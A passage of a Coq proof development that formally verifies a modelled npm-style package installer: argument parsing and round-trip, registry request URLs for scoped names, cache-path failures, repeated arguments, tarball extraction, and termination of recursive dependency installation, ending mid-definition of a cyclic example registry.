Lemma main_loop_split fuel before arg after w wl :
  main_loop env fuel (before ++ arg :: after) w = Some (tt, wl) ->
  exists w1 w2,
    main_loop env fuel before w = Some (tt, w1)
    /\ main_arg env fuel arg w1 = Some (tt, w2)
    /\ main_loop env fuel after w2 = Some (tt, wl).
Proof.
  revert w. induction before as [|b before IH]; intros w; cbn [main_loop app].
  - intros ([] & w2 & Harg & Hrest)%bind_Some. by exists w, w2.
  - intros ([] & wb & Hb & Hrest)%bind_Some.
    destruct (IH _ Hrest) as (w1 & w2 & Hbefore & Harg & Hafter).
    exists w1, w2. split; [|done]. apply bind_Some. by exists tt, wb.
Qed.

(** What the loop body does with one argument. *)
Definition attempted (fuel : nat) (arg : string) (w1 w2 : World) : Prop :=
  match Parse arg with
  | Some (Err e) => w2 = set_stdout (fun out => out ++ [parse_error_line arg e]) w1
  | Some (Ok pkg) =>
      exists r wi,
        Install env fuel pkg w1 = Some (r, wi)
        /\ marked wi (memo_key pkg)
        /\ match r with
           | Ok _ => w2 = wi
           | Err e => w2 = set_stdout (fun out => out ++ [install_error_line pkg e]) wi
           end
  | None => False
  end.

Lemma main_arg_attempted fuel arg w1 w2 :
  main_arg env fuel arg w1 = Some (tt, w2) -> attempted fuel arg w1 w2.
Proof.
  unfold main_arg, attempted. destruct (Parse arg) as [[pkg|e]|]; [| |done].
  - intros (r & wi & Hinstall & Hprint)%bind_Some. exists r, wi.
    split; [done|]. split; [by eapply Install_marks|].
    destruct r as [[]|e]; by injection Hprint as <-.
  - by intros [= <-].
Qed.

Lemma main_arg_returns fuel arg w :
  (forall pkg w0, is_Some (Install env fuel pkg w0)) ->
  is_Some (main_arg env fuel arg w).
Proof.
  intros Hinstall. unfold main_arg.
  destruct (Parse_returns arg) as [[pkg|e] ->]; [|by eexists].
  unfold bind. destruct (Hinstall pkg w) as [[[[]|e] wi] ->]; by eexists.
Qed.

Lemma main_loop_returns fuel args w :
  (forall pkg w0, is_Some (Install env fuel pkg w0)) ->
  is_Some (main_loop env fuel args w).
Proof.
  intros Hinstall. revert w. induction args as [|arg args IH]; intros w;
    cbn [main_loop]; [by eexists|].
  unfold bind. destruct (main_arg_returns fuel arg w Hinstall) as [[[] w1] ->]. apply IH.
Qed.

Lemma run_arguments fuel prog arg others w :
  run env fuel (prog :: arg :: others) w
  = match main_loop env fuel (arg :: others) w with
    | Some (_, wl) => Some (0, set_stdout (fun out => out ++ [completion_line]) wl)
    | None => None
    end.
Proof.
  unfold run, main. cbn [length Nat.ltb Nat.leb tail]. unfold bind at 1.
  by destruct (main_loop env fuel (arg :: others) w) as [[[] wl]|].
Qed.

End command_line.

(** * Further properties of the engine *)

(** ** The parser: dead branch and round trip *)

(** A first occurrence splits the string around it. *)
Lemma Index_split (c : ascii) s :
  0 <= strings.Index s (String c "") ->
  s = strings.take (Z.to_nat (strings.Index s (String c ""))) s
      +:+ String c (strings.drop (Z.to_nat (strings.Index s (String c "")) + 1) s).
Proof.
  induction s as [|d s IH]; [done|].
  cbn [strings.Index]. rewrite HasPrefix_sep.
  destruct (Ascii.eqb_spec c d) as [->|Hne]; [done|].
  destruct (Z.ltb_spec (strings.Index s (String c "")) 0) as [Hlt|Hge]; [lia|].
  intros _. specialize (IH Hge).
  replace (Z.to_nat (strings.Index s (String c "") + 1))
    with (S (Z.to_nat (strings.Index s (String c "")))) by lia.
  cbn [strings.take strings.drop Nat.add]. rewrite append_cons. by rewrite <- IH.
Qed.

(** So does a last occurrence. *)
Lemma LastIndex_split (c : ascii) s :
  0 <= strings.LastIndex s (String c "") ->
  s = strings.take (Z.to_nat (strings.LastIndex s (String c ""))) s
      +:+ String c (strings.drop (Z.to_nat (strings.LastIndex s (String c "") + 1)) s).
Proof.
  induction s as [|d s IH]; [done|].
  cbn [strings.LastIndex]. rewrite HasPrefix_sep.
  destruct (Z.leb_spec 0 (strings.LastIndex s (String c ""))) as [Hge|Hlt].
  - intros _. specialize (IH Hge).
    replace (Z.to_nat (strings.LastIndex s (String c "") + 1 + 1))
      with (S (Z.to_nat (strings.LastIndex s (String c "") + 1))) by lia.
    replace (Z.to_nat (strings.LastIndex s (String c "") + 1))
      with (S (Z.to_nat (strings.LastIndex s (String c "")))) at 1 by lia.
    cbn [strings.take strings.drop]. rewrite append_cons. by rewrite <- IH.
  - destruct (Ascii.eqb_spec c d) as [->|Hne]; [done|lia].
Qed.

(** X1: [Parse] never returns the error "package name cannot be empty
    before '@'": the branch that splits at the first ['@'] is entered only
    for a string that does not start with ['@'], so the part before it is
    not empty. *)
Theorem Parse_never_EmptyName (arg : string) :
  Parse arg = Some (Err EmptyName) -> False.
Proof.
  unfold Parse.
  destruct (String.eqb arg ""); [discriminate|].
  destruct (strings.Contains arg "@" && negb (strings.HasPrefix arg "@")) eqn:Hb.
  - apply andb_true_iff in Hb as [Hc Hp]. apply negb_true_iff in Hp.
    unfold strings.Contains in Hc. apply Z.leb_le in Hc.
    cbn [strings.SplitN].
    destruct (Z.ltb_spec (strings.Index arg "@") 0) as [Hlt|_]; [lia|].
    cbn [lookup list_lookup mbind option_bind].
    destruct (String.eqb_spec (strings.take (Z.to_nat (strings.Index arg "@")) arg) "")
      as [Hempty|_]; [|discriminate].
    intros _. pose proof (Index_split "@" arg Hc) as Hsplit.
    rewrite Hempty, append_nil in Hsplit. rewrite Hsplit in Hp. discriminate.
  - destruct (strings.HasPrefix arg "@").
    + destruct (0 <? strings.LastIndex arg "@").
      * destruct (String.eqb _ ""); discriminate.
      * destruct (strings.Count arg "/" <? 1); discriminate.
    + destruct (strings.Contains arg " "); discriminate.
Qed.

Lemma Parse_never_EmptyName_witness :
  (Parse "@1.0.0" = Some (Err EmptyName) -> False)
  /\ Parse "@1.0.0" = Some (Err InvalidScopedName).
Proof. split; [exact (Parse_never_EmptyName "@1.0.0")|reflexivity]. Defined.

Lemma take_Index_free (c : ascii) s :
  0 <= strings.Index s (String c "") ->
  strings.Contains (strings.take (Z.to_nat (strings.Index s (String c ""))) s) (String c "")
  = false.
Proof.
  induction s as [|d s IH]; [done|].
  cbn [strings.Index]. rewrite HasPrefix_sep.
  destruct (Ascii.eqb c d) eqn:Hcd; [done|].
  destruct (Z.ltb_spec (strings.Index s (String c "")) 0) as [Hlt|Hge]; [lia|].
  intros _.
  replace (Z.to_nat (strings.Index s (String c "") + 1))
    with (S (Z.to_nat (strings.Index s (String c "")))) by lia.
  cbn [strings.take]. rewrite Contains_cons, Hcd. by apply IH.
Qed.

Lemma drop_LastIndex_free (c : ascii) s :
  strings.Contains
    (strings.drop (Z.to_nat (strings.LastIndex s (String c "") + 1)) s) (String c "")
  = false.
Proof.
  induction s as [|d s IH]; [done|].
  cbn [strings.LastIndex]. rewrite HasPrefix_sep.
  pose proof (LastIndex_range c s) as Hr.
  destruct (Z.leb_spec 0 (strings.LastIndex s (String c ""))) as [Hge|Hlt].
  - replace (Z.to_nat (strings.LastIndex s (String c "") + 1 + 1))
      with (S (Z.to_nat (strings.LastIndex s (String c "") + 1))) by lia.
    cbn [strings.drop]. apply IH.
  - assert (strings.LastIndex s (String c "") = -1) as Hnone by lia.
    rewrite Hnone in IH. cbn [Z.add Z.to_nat strings.drop] in IH.
    change (Z.to_nat (-1 + 1)) with 0%nat in IH. cbn [strings.drop] in IH.
    destruct (Ascii.eqb c d) eqn:Hcd.
    + cbn [Z.add Z.to_nat Pos.to_nat Pos.iter_op Nat.add strings.drop]. exact IH.
    + change (Z.to_nat (-1 + 1)) with 0%nat. cbn [strings.drop].
      by rewrite Contains_cons, Hcd.
Qed.

(** X2: a specifier that [Parse] accepts is given back by its result.  The
    name is never empty, and either the argument is the name, ['@'] and the
    selector put together, or the argument is the name itself and the
    selector is ["latest"].  For an unscoped argument the name holds no
    ['@'] (the split is at the first one); for a scoped argument with a
    selector the selector holds none (the split is at the last one). *)
Theorem Parse_round_trip (arg : string) (pkg : PackageInfo) :
  Parse arg = Some (Ok pkg) ->
  Name pkg <> ""
  /\ (arg = Name pkg +:+ "@" +:+ Version pkg
      \/ (arg = Name pkg /\ Version pkg = "latest"))
  /\ (strings.HasPrefix arg "@" = false -> strings.Contains (Name pkg) "@" = false)
  /\ (strings.HasPrefix arg "@" = true -> arg <> Name pkg ->
      strings.Contains (Version pkg) "@" = false).
Proof.
  unfold Parse.
  destruct (String.eqb_spec arg "") as [|Hne]; [discriminate|].
  destruct (strings.Contains arg "@" && negb (strings.HasPrefix arg "@")) eqn:Hb.
  - apply andb_true_iff in Hb as [Hc Hp]. apply negb_true_iff in Hp.
    unfold strings.Contains in Hc. apply Z.leb_le in Hc.
    cbn [strings.SplitN].
    destruct (Z.ltb_spec (strings.Index arg "@") 0) as [Hlt|_]; [lia|].
    cbn [lookup list_lookup mbind option_bind String.length].
    destruct (String.eqb_spec (strings.take (Z.to_nat (strings.Index arg "@")) arg) "")
      as [|Hname]; [discriminate|].
    intros [= <-]. cbn [Name Version].
    split; [done|]. split; [left; apply (Index_split "@" arg Hc)|].
    split; [intros _; by apply take_Index_free|]. congruence.
  - destruct (strings.HasPrefix arg "@") eqn:Hp.
    + destruct (Z.ltb_spec 0 (strings.LastIndex arg "@")) as [Hpos|Hnpos].
      * destruct (String.eqb_spec (strings.take (Z.to_nat (strings.LastIndex arg "@")) arg) "")
          as [|Hname]; [discriminate|].
        intros [= <-]. cbn [Name Version].
        split; [done|]. split; [left; apply (LastIndex_split "@" arg); lia|].
        split; [discriminate|]. intros _ _. apply drop_LastIndex_free.
      * destruct (strings.Count arg "/" <? 1); [discriminate|].
        intros [= <-]. cbn [Name Version]. split; [done|]. split; [by right|].
        split; [discriminate|]. done.
    + destruct (strings.Contains arg " "); [discriminate|].
      intros [= <-]. cbn [Name Version]. split; [done|]. split; [by right|].
      split; [|discriminate]. intros _.
      rewrite andb_false_iff in Hb. destruct Hb as [Hb|Hb]; [done|discriminate].
Qed.

Lemma Parse_round_trip_witness :
  Name (mkPackageInfo "@types/node" "^20.1.0") <> ""
  /\ ("@types/node@^20.1.0" = "@types/node" +:+ "@" +:+ "^20.1.0"
      \/ ("@types/node@^20.1.0" = "@types/node" /\ "^20.1.0" = "latest")).
Proof.
  destruct (Parse_round_trip "@types/node@^20.1.0" (mkPackageInfo "@types/node" "^20.1.0")
              eq_refl) as (Hname & Hback & _).
  split; [exact Hname|exact Hback].
Defined.

(** ** Names as path elements *)

Lemma length_drop n s : String.length (strings.drop n s) = (String.length s - n)%nat.
Proof.
  revert s. induction n as [|n IH]; intros [|d s]; cbn [strings.drop String.length];
    try lia. rewrite IH. lia.
Qed.

(** Replacing a byte by a text without it leaves none of it. *)
Lemma ReplaceAll_go_free (c : ascii) new fuel s :
  strings.Contains new (String c "") = false ->
  (String.length s < fuel)%nat ->
  strings.Contains (strings.ReplaceAll_go fuel s (String c "") new) (String c "") = false.
Proof.
  intros Hnew. revert s. induction fuel as [|fuel IH]; intros s Hlen; [lia|].
  cbn [strings.ReplaceAll_go].
  destruct (Z.ltb_spec (strings.Index s (String c "")) 0) as [Hlt|Hge].
  - unfold strings.Contains. apply Z.leb_gt. lia.
  - rewrite !Contains_app, take_Index_free, Hnew by done. cbn [orb].
    apply IH. rewrite length_drop. cbn [String.length].
    destruct s as [|d s]; [cbn in Hge; lia|]. cbn [String.length] in *. lia.
Qed.

Lemma ReplaceAll_free (c : ascii) new s :
  strings.Contains new (String c "") = false ->
  strings.Contains (strings.ReplaceAll s (String c "") new) (String c "") = false.
Proof. intros Hnew. apply ReplaceAll_go_free; [done|lia]. Qed.



Example getCachePath_scoped :
  getCachePath (leftpad_registry no_faults) (mkPackageInfo "@scope/pkg" "2.0.0")
  = Ok "/home/u/.cache/npm-go/@scope_pkg/2.0.0"
  /\ getCachePath (leftpad_registry no_faults) (mkPackageInfo "@scope_pkg" "2.0.0")
     = Ok "/home/u/.cache/npm-go/@scope_pkg/2.0.0".
Proof. split; reflexivity. Qed.

(** ** The metadata request *)

(** The request of [resolvePackage], and its result by the answer. *)
Definition registry_url (pkg : PackageInfo) : string :=
  "https://registry.npmjs.org/"
  +:+ (if strings.HasPrefix (Name pkg) "@"
       then strings.ReplaceAll (Name pkg) "/" "%2F"
       else Name pkg).

Definition resolved_from {SV : Semver} (pkg : PackageInfo) (answer : result Response)
  : result Resolution :=
  match answer with
  | Err e => Err (MetadataFetchError e)
  | Ok resp =>
      if StatusCode resp =? StatusOK then
        match json_Decode (RespBody resp) with
        | Err e => Err (MetadataDecodeError e)
        | Ok meta => resolveVersion pkg meta
        end
      else Err (UnexpectedStatus (StatusCode resp))
  end.

Lemma resolvePackage_run {SV : Semver} env pkg w :
  resolvePackage env pkg w
  = Some (resolved_from pkg (env_http env (length (requests w)) (registry_url pkg)),
          set_requests (fun log => log ++ [registry_url pkg]) w).
Proof.
  unfold resolvePackage, bind, http_Get, resolved_from. fold (registry_url pkg).
  destruct (env_http env (length (requests w)) (registry_url pkg)) as [resp|e]; [|done].
  destruct (StatusCode resp =? StatusOK); cbn [negb]; [|done].
  by destruct (json_Decode (RespBody resp)).
Qed.

(** X4: [resolvePackage] issues exactly one request, whatever comes of it,
    and changes nothing else of the world.  The request goes to the registry
    host followed by the name, in which every ['/'] is written ["%2F"] when
    the name is scoped (so that the name is one element of the path).  A
    failed request gives [MetadataFetchError]; a status other than 200 gives
    [UnexpectedStatus] without the body being looked at; a body that does
    not decode gives [MetadataDecodeError]; otherwise the result is that of
    the resolution within the decoded document. *)
Theorem resolvePackage_one_request {SV : Semver} (env : Env) (pkg : PackageInfo) (w : World) :
  let encoded := if strings.HasPrefix (Name pkg) "@"
                 then strings.ReplaceAll (Name pkg) "/" "%2F"
                 else Name pkg in
  let url := "https://registry.npmjs.org/" +:+ encoded in
  (if strings.HasPrefix (Name pkg) "@"
   then strings.Contains encoded "/" = false
   else encoded = Name pkg)
  /\ exists r,
       resolvePackage env pkg w = Some (r, set_requests (fun log => log ++ [url]) w)
       /\ r = match env_http env (length (requests w)) url with
              | Err e => Err (MetadataFetchError e)
              | Ok resp =>
                  if StatusCode resp =? StatusOK then
                    match json_Decode (RespBody resp) with
                    | Err e => Err (MetadataDecodeError e)
                    | Ok meta => resolveVersion pkg meta
                    end
                  else Err (UnexpectedStatus (StatusCode resp))
              end.
Proof.
  intros encoded url. split.
  - subst encoded. destruct (strings.HasPrefix (Name pkg) "@"); [|done].
    by apply ReplaceAll_free.
  - eexists. split; [apply resolvePackage_run|]. done.
Qed.

Example resolvePackage_scoped_url :
  exists r w',
    resolvePackage offline (mkPackageInfo "@scope/pkg" "latest") empty_world = Some (r, w')
    /\ requests w' = ["https://registry.npmjs.org/@scope%2Fpkg"].
Proof. eexists _, _. split; reflexivity. Qed.

(** ** Failures before the disk is touched *)

(** X5: without a user cache directory no package gets installed: a call
    of [Install] for a key that is not marked fails, in the resolver or at
    the cache path, after exactly one request and without one file-system
    call; the files are as before and the key is marked all the same. *)
Theorem Install_no_cache_dir {SV : Semver} (env : Env) (fuel : nat)
    (pkg : PackageInfo) (w : World) (e0 : error) :
  env_UserCacheDir env = Err e0 ->
  ~ marked w (memo_key pkg) ->
  exists e w',
    Install env (S fuel) pkg w = Some (Err e, w')
    /\ ((exists e1, e = Wrap ("resolve " +:+ memo_key pkg) e1)
        \/ e = Wrap ("get cache path for " +:+ memo_key pkg) (Wrap "get user cache dir" e0))
    /\ fs w' = fs w
    /\ fs_calls w' = fs_calls w
    /\ requests w' = requests w ++ [registry_url pkg]
    /\ marked w' (memo_key pkg).
Proof.
  intros Hdir Hm. rewrite Install_unmarked by done.
  unfold Install_work, bind at 1. unfold Println at 1.
  unfold bind at 1. rewrite resolvePackage_run.
  match goal with |- context [resolved_from pkg ?a] => destruct (resolved_from pkg a) as [res|e1] end.
  - unfold getCachePath. rewrite Hdir. eexists _, _. split; [reflexivity|].
    split; [by right|]. cbn. repeat split; try done.
    unfold marked. cbn. by rewrite lookup_insert_eq.
  - eexists _, _. split; [reflexivity|]. split; [left; by eexists|].
    cbn. repeat split; try done. unfold marked. cbn. by rewrite lookup_insert_eq.
Qed.

(** Surroundings with the registry of [leftpad] and no cache directory. *)
Definition homeless : Env :=
  mkEnv (env_http (leftpad_registry no_faults)) no_faults
        (Err (New "neither $XDG_CACHE_HOME nor $HOME are defined")) no_stat_errors.

Lemma Install_no_cache_dir_witness :
  exists e w',
    Install homeless 1 (mkPackageInfo "leftpad" "1.0.0") empty_world = Some (Err e, w')
    /\ fs w' = fs empty_world
    /\ fs_calls w' = fs_calls empty_world
    /\ requests w' = requests empty_world ++ [registry_url (mkPackageInfo "leftpad" "1.0.0")].
Proof.
  destruct (Install_no_cache_dir homeless 0 (mkPackageInfo "leftpad" "1.0.0") empty_world
              _ eq_refl) as (e & w' & Hrun & _ & Hfs & Hcalls & Hreq & _).
  { vm_compute. discriminate. }
  exists e, w'. split; [exact Hrun|]. split; [exact Hfs|]. split; [exact Hcalls|exact Hreq].
Defined.

(** ** Repeated arguments *)

Lemma marked_set_stdout f w key : marked (set_stdout f w) key <-> marked w key.
Proof. done. Qed.

(** X6: an argument that was gone through once is a no-op from then on:
    when it parses to a package and the loop body returned for it, the loop
    body for the same argument in any later world returns at once, prints
    nothing and requests nothing, also when the first attempt failed. *)
Theorem main_arg_repeat {SV : Semver} (env : Env) (fuel fuel' : nat)
    (arg : string) (pkg : PackageInfo) (w w1 w2 : World) :
  Parse arg = Some (Ok pkg) ->
  main_arg env fuel arg w = Some (tt, w1) ->
  extends w1 w2 ->
  main_arg env (S fuel') arg w2 = Some (tt, w2).
Proof.
  intros Hparse Hfirst Hlater.
  pose proof (main_arg_attempted env fuel arg w w1 Hfirst) as Hatt.
  unfold attempted in Hatt. rewrite Hparse in Hatt.
  destruct Hatt as (r & wi & _ & Hmark & Hw1).
  assert (marked w1 (memo_key pkg)) as Hm1.
  { destruct r as [[]|e]; subst w1; [done|by apply marked_set_stdout]. }
  unfold main_arg. rewrite Hparse. unfold bind.
  rewrite Install_marked; [done|]. by apply (ext_marks _ _ Hlater).
Qed.

Lemma main_arg_repeat_witness :
  exists w1,
    main_arg offline 1 "a@1.0.0" empty_world = Some (tt, w1)
    /\ stdout w1
       = ["Resolving a@1.0.0...";
          "Error installing package 'a': resolve a@1.0.0: fetch metadata: dial tcp: network is unreachable"]
    /\ main_arg offline 1 "a@1.0.0" w1 = Some (tt, w1).
Proof.
  eexists. split; [vm_compute; reflexivity|]. split; [reflexivity|].
  eapply (main_arg_repeat offline 1 0 "a@1.0.0" (mkPackageInfo "a" "1.0.0") empty_world);
    [reflexivity|vm_compute; reflexivity|reflexivity].
Defined.

(** ** What the extraction writes *)

(** X7: entries whose name does not start with ["package/"] play no part
    in the extraction: the archive without them is extracted to the same
    result and the same world. *)
Theorem extract_ignores_outside (env : Env) (dest : string) (ens : list TarEntry)
    (fin : option error) (w : World) :
  extract env dest ens fin w = extract env dest (List.filter in_package ens) fin w.
Proof. apply extract_filter. Qed.

(** X8: a file entry that is extracted with success leaves, at its target,
    a file with exactly the bytes of the entry; when the copy fails, the
    file is there with a leading part of them. *)
Theorem extract_entry_file (env : Env) (dest : string) (en : TarEntry)
    (w w' : World) (r : result unit) :
  in_package en = true ->
  hdr_IsDir en = false ->
  extract_entry env dest en w = Some (r, w') ->
  match r with
  | Ok _ => fs w' !! target_of dest (hdr_Name en) = Some (File (Data en))
  | Err e =>
      forall e0, e = Wrap ("copy to " +:+ target_of dest (hdr_Name en)) e0 ->
                 exists k, fs w' !! target_of dest (hdr_Name en)
                           = Some (File (strings.take k (Data en)))
  end.
Proof.
  unfold in_package, extract_entry. intros -> ->. cbn [negb]. unfold bind.
  destruct (os_MkdirAll env _ 493 w) as [[[[]|e1] w1]|]; [| |done].
  - destruct (os_Create env _ w1) as [[[[]|e2] w2]|]; [| |done].
    + destruct (io_Copy env _ (Data en) w2) as [[[[]|e3] w3]|] eqn:Hcopy; [| |done].
      * intros [= <- <-]. apply (io_Copy_result _ _ _ _ _ _ Hcopy).
      * intros [= <- <-] e0 _. apply (io_Copy_result _ _ _ _ _ _ Hcopy).
    + intros [= <- <-] e0 [=].
  - intros [= <- <-] e0 [=].
Qed.

Lemma extract_entry_file_witness :
  exists w',
    extract_entry (leftpad_registry no_faults) leftpad_cache
      (mkTarEntry "package/lib/index.js" false 420 "module.exports = leftpad;")
      empty_world = Some (Ok tt, w')
    /\ fs w' !! "/home/u/.cache/npm-go/leftpad/1.0.0/lib/index.js"
       = Some (File "module.exports = leftpad;").
Proof.
  eexists. split; [vm_compute; reflexivity|].
  refine (extract_entry_file (leftpad_registry no_faults) leftpad_cache
            (mkTarEntry "package/lib/index.js" false 420 "module.exports = leftpad;")
            empty_world _ (Ok tt) eq_refl eq_refl _).
  vm_compute. reflexivity.
Defined.

(** ** Termination over a finite set of dependency keys *)

(** The keys of [U] that are not marked yet. *)
Definition pending (U : gset string) (w : World) : nat :=
  size (filter (fun k => default false (installed w !! k) = false) U).

(** Every dependency the registry ever lists has its key in [U]. *)
Definition registry_closed (env : Env) (U : gset string) : Prop :=
  forall n url resp meta k vinfo d v,
    env_http env n url = Ok resp ->
    json_Decode (RespBody resp) = Ok meta ->
    In (k, vinfo) (Versions meta) ->
    In (d, v) (Dependencies vinfo) ->
    d +:+ "@" +:+ v ∈ U.

Lemma pending_le_size U w : (pending U w <= size U)%nat.
Proof.
  unfold pending. apply subseteq_size. intros k Hk.
  by apply elem_of_filter in Hk as [_ ?].
Qed.

Lemma pending_mono U w w' : extends w w' -> (pending U w' <= pending U w)%nat.
Proof.
  intros Hext. unfold pending. apply subseteq_size. intros k.
  rewrite !elem_of_filter. intros [Hk HU]. split; [|done].
  destruct (default false (installed w !! k)) eqn:Hw; [|done].
  pose proof (ext_marks _ _ Hext k Hw) as Hm. unfold marked in Hm. congruence.
Qed.

Lemma pending_mark U w w' key :
  key ∈ U -> ~ marked w key ->
  extends (set_installed (fun m => <[key := true]> m) w) w' ->
  (pending U w' < pending U w)%nat.
Proof.
  intros HU Hm Hext. unfold pending. apply subset_size.
  assert (marked w' key) as Hm' by (apply (ext_marks _ _ Hext), marked_insert).
  apply strict_spec_alt. split.
  - intros k. rewrite !elem_of_filter. intros [Hk HkU]. split; [|done].
    destruct (default false (installed w !! k)) eqn:Hw; [|done].
    assert (marked w' k) as Hmk; [|unfold marked in Hmk; congruence].
    apply (ext_marks _ _ Hext). unfold marked. cbn.
    destruct (decide (key = k)) as [->|Hne]; [by rewrite lookup_insert_eq|].
    by rewrite lookup_insert_ne.
  - intros Heq. assert (key ∈ filter (fun k => default false (installed w !! k) = false) U)
      as Hin.
    { apply elem_of_filter. split; [|done]. unfold marked in Hm.
      by destruct (default false (installed w !! key)). }
    rewrite <- Heq in Hin. apply elem_of_filter in Hin as [Hin _].
    unfold marked in Hm'. congruence.
Qed.

Lemma assoc_In_pair {A} k (m : list (string * A)) a :
  assoc k m = Some a -> In (k, a) m.
Proof.
  induction m as [|[k' a'] m IH]; [done|]. cbn [assoc].
  destruct (String.eqb_spec k k') as [->|_]; [intros [= ->]; by left|].
  intros H. right. by apply IH.
Qed.

Section termination.
Context {SV : Semver} (env : Env) (U : gset string).
Hypothesis Hclosed : registry_closed env U.

Lemma resolveVersion_deps pkg meta res :
  resolveVersion pkg meta = Ok res ->
  deps res = [] \/ exists k vinfo, In (k, vinfo) (Versions meta)
                                   /\ deps res = Dependencies vinfo.
Proof.
  unfold resolveVersion.
  destruct (assoc (tagged meta (Version pkg)) (Versions meta)) as [vinfo|] eqn:Hkey.
  - intros [= <-]. right. exists (tagged meta (Version pkg)), vinfo.
    split; [by apply assoc_In_pair|done].
  - destruct (NewConstraint (tagged meta (Version pkg))) as [c|e]; [|done].
    destruct (String.eqb _ ""); [done|]. intros [= <-]. cbn [deps].
    unfold Versions_at.
    destruct (assoc (scan c (map fst (Versions meta))).1 (Versions meta)) as [vinfo|] eqn:Hm.
    + right. eexists _, vinfo. split; [by apply assoc_In_pair|done].
    + by left.
Qed.

Lemma resolvePackage_deps pkg w res w' d v :
  resolvePackage env pkg w = Some (Ok res, w') ->
  In (d, v) (deps res) -> d +:+ "@" +:+ v ∈ U.
Proof.
  rewrite resolvePackage_run. intros [= Hres _]. unfold resolved_from in Hres.
  destruct (env_http env (length (requests w)) (registry_url pkg)) as [resp|] eqn:Hget;
    [|done].
  destruct (StatusCode resp =? StatusOK); [|done].
  destruct (json_Decode (RespBody resp)) as [meta|] eqn:Hjson; [|done].
  destruct (resolveVersion_deps _ _ _ Hres) as [->|(k & vinfo & Hin & ->)]; [done|].
  intros Hdep. by eapply Hclosed.
Qed.

Lemma installDeps_returns install ds w0 :
  (forall pkg, preserves (install pkg)) ->
  (forall pkg w, extends w0 w -> memo_key pkg ∈ U -> is_Some (install pkg w)) ->
  (forall d v, In (d, v) ds -> d +:+ "@" +:+ v ∈ U) ->
  forall w, extends w0 w -> is_Some (installDeps install ds w).
Proof.
  intros Hpres Hinstall. induction ds as [|[d v] ds IH]; intros HU w Hext;
    cbn [installDeps]; [by eexists|].
  unfold bind.
  destruct (Hinstall (mkPackageInfo d v) w Hext) as [[r w1] Hrun];
    [apply HU; by left|].
  rewrite Hrun. destruct r as [[]|e]; [|by eexists].
  apply IH; [intros d' v' Hin; apply HU; by right|].
  etrans; [exact Hext|]. by eapply Hpres.
Qed.

Lemma returns_ensureCached key url cachePath w :
  is_Some (ensureCached env key url cachePath w).
Proof.
  destruct (os_Stat env cachePath w) as [n| |e] eqn:Hn.
  - rewrite ensureCached_present; [by eexists|by rewrite Hn].
  - destruct (ensureCached_missing env key url cachePath w Hn) as (r & w' & -> & _).
    by eexists.
  - rewrite ensureCached_present; [by eexists|by rewrite Hn].
Qed.

Lemma returns_link name cachePath w : is_Some (link env name cachePath w).
Proof.
  destruct (link_RemoveAll_first env name cachePath w) as (r0 & w1 & _ & ->).
  destruct (link_create_result env name cachePath w1) as (r & w' & -> & _). by eexists.
Qed.

Lemma Install_work_returns install pkg w0 :
  (forall pkg', preserves (install pkg')) ->
  (forall pkg' w, extends w0 w -> memo_key pkg' ∈ U -> is_Some (install pkg' w)) ->
  is_Some (Install_work env install pkg w0).
Proof.
  intros Hpres Hinstall. unfold Install_work.
  unfold bind at 1. unfold Println at 1.
  set (w1 := set_stdout _ w0).
  assert (extends w0 w1) as H01 by (by eapply (preserves_Println _ w0 tt)).
  unfold bind at 1.
  destruct (resolvePackage env pkg w1) as [[r w2]|] eqn:Hres;
    [|by rewrite resolvePackage_run in Hres].
  assert (extends w1 w2) as H12 by (by eapply preserves_resolvePackage).
  destruct r as [res|e]; [|by eexists].
  destruct (getCachePath env _) as [cachePath|e]; [|by eexists].
  unfold bind at 1.
  destruct (returns_ensureCached (memo_key pkg) (tarball res) cachePath w2)
    as [[r3 w3] Hcache].
  rewrite Hcache.
  assert (extends w2 w3) as H23 by (by eapply preserves_ensureCached).
  destruct r3 as [[]|e]; [|by eexists].
  unfold bind at 1.
  destruct (returns_link (Name pkg) cachePath w3) as [[r4 w4] Hlink].
  rewrite Hlink.
  assert (extends w3 w4) as H34 by (by eapply preserves_link).
  destruct r4 as [[]|e]; [|by eexists].
  unfold bind at 1. unfold Println at 1.
  apply (installDeps_returns install (deps res) w0 Hpres Hinstall).
  - intros d v. by eapply resolvePackage_deps.
  - etrans; [exact H01|]. etrans; [exact H12|]. etrans; [exact H23|].
    etrans; [exact H34|]. by eapply (preserves_Println _ w4 tt).
Qed.

Lemma Install_returns_in fuel pkg w :
  memo_key pkg ∈ U -> (pending U w < fuel)%nat -> is_Some (Install env fuel pkg w).
Proof.
  revert pkg w. induction fuel as [|fuel IH]; intros pkg w HU Hfuel; [lia|].
  destruct (bool_decide_reflect (default false (installed w !! memo_key pkg) = true))
    as [Hm|Hm].
  - rewrite Install_marked by done. by eexists.
  - rewrite Install_unmarked by done.
    apply Install_work_returns; [intros pkg'; apply preserves_Install|].
    intros pkg' w' Hext HU'. apply IH; [done|].
    pose proof (pending_mark U w w' (memo_key pkg) HU Hm Hext). lia.
Qed.

Lemma Install_returns fuel pkg w :
  (size U + 2 <= fuel)%nat -> is_Some (Install env fuel pkg w).
Proof.
  intros Hfuel. destruct fuel as [|fuel]; [lia|].
  destruct (bool_decide_reflect (default false (installed w !! memo_key pkg) = true))
    as [Hm|Hm].
  - rewrite Install_marked by done. by eexists.
  - rewrite Install_unmarked by done.
    apply Install_work_returns; [intros pkg'; apply preserves_Install|].
    intros pkg' w' _ HU'. apply Install_returns_in; [done|].
    pose proof (pending_le_size U w'). lia.
Qed.

End termination.

(** X9: when every dependency the registry ever lists has its key (name,
    ['@'], selector) in a finite set [U], the recursion of [Install] is at
    most [size U + 2] deep: with that much fuel every call of [Install]
    returns, from any world, and so does the whole process for any argument
    list.  The memo alone bounds the walk, cycles included. *)
Theorem Install_terminates {SV : Semver} (env : Env) (U : gset string) (fuel : nat) :
  registry_closed env U ->
  (size U + 2 <= fuel)%nat ->
  (forall pkg w, is_Some (Install env fuel pkg w))
  /\ (forall Args w, is_Some (run env fuel Args w)).
Proof.
  intros Hclosed Hfuel.
  assert (forall pkg w, is_Some (Install env fuel pkg w)) as Hinstall
    by (intros pkg w; by apply (Install_returns env U)).
  split; [done|]. intros Args w.
  destruct Args as [|prog [|arg others]]; [by eexists|by eexists|].
  rewrite run_arguments.
  destruct (main_loop_returns env fuel (arg :: others) w Hinstall) as [[[] wl] ->].
  by eexists.
Qed.

(** A registry in which [a] and [b] depend on each other. *)
Definition cyclic_registry : Env :=
  mkEnv (serve [("https://registry.npmjs.org/a",
                 json_body (mkPackageMeta ∅
                              [("1.0.0", mkVersionInfo "https://r/x.tgz" [("b", "1.0.0")])]));
                ("https://registry.npmjs.org/b",
                 json_body (mkPackageMeta ∅
